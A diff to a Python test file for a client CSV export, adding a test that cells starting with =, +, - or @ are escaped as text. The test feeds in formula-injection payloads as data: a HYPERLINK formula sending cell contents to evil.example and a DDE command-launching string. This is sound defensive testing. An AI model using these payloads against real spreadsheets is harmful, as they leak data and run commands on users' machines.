@@ -115,7 +115,7 @@ def test_the_csv_holds_each_listed_client_as_excel_reads_it(ctx, tmp_path):
             "Ёлкин Дмитрий",
             "person",
             "lead",
-            "+7 916 123 45 67; +7 495 000 00 01",
+            "'+7 916 123 45 67; +7 495 000 00 01",  # a leading + would be run as a formula
             "elkin@example.ru",
             "Olga Sokolova",
             "Instagram",
@@ -126,6 +126,26 @@ def test_the_csv_holds_each_listed_client_as_excel_reads_it(ctx, tmp_path):
             "2026-11-24",
         ],
     ]
+
+
+def test_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text(ctx, tmp_path, audit_rows):
+    clients.create(
+        ctx,
+        name='=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        source="@SUM(1+1)*cmd|' /C calc'!A0",
+        address="-2+3",
+        notes="plain",
+    )
+    clients.create(ctx, name="+998 90 123 45 67 Aziz", address="Toshkent")
+    target = tmp_path / "clients.csv"
+    assert exports.clients_csv(ctx, target) == 2
+    rows = {row[1]: row for row in read_csv(target)[1:]}
+    evil = rows['\'=HYPERLINK("http://evil.example/?"&A1,"Click")']
+    assert evil[7] == "'@SUM(1+1)*cmd|' /C calc'!A0" and evil[9] == "'-2+3"
+    assert rows["'+998 90 123 45 67 Aziz"][9] == "Toshkent"  # what starts otherwise is left as it is
+    assert exports.neutralised("-12.50") == "-12.50" and exports.neutralised(-3) == -3  # numbers stay numbers
+    [entry] = [details for action, details in audit_rows("clients") if action == "export"]
+    assert entry["rows"] == 2 and entry["file"] == "clients.csv"
 
 
 def test_pages_give_the_same_file_as_reading_each_client_on_its_own(ctx, tmp_path):
@@ -147,7 +167,7 @@ def test_pages_give_the_same_file_as_reading_each_client_on_its_own(ctx, tmp_pat
     by_page = tmp_path / "paged.csv"
     assert exports.clients_csv(ctx, by_page, f, page_size=5) == 23
     one_by_one = [exports._client_line(clients.get(ctx, i)) for i in clients.list_ids(ctx, f)]
-    assert read_csv(by_page)[1:] == [[str(v) for v in line] for line in one_by_one]
+    assert read_csv(by_page)[1:] == [[str(exports.neutralised(v)) for v in line] for line in one_by_one]
 
 
 def test_a_user_exports_only_the_clients_they_may_see(ctx, tmp_path):
